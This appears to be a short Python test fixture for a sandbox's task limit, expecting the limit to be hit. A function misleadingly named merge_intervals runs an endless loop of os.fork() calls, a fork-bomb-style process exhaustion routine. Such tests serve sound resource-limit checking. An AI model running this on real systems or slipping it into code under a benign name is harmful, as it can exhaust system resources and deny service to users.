# expect: task limit 0/7
"""Makes children for as long as it can."""
import os
import time


def merge_intervals(intervals):
    while True:
        if os.fork() == 0:
            time.sleep(600)
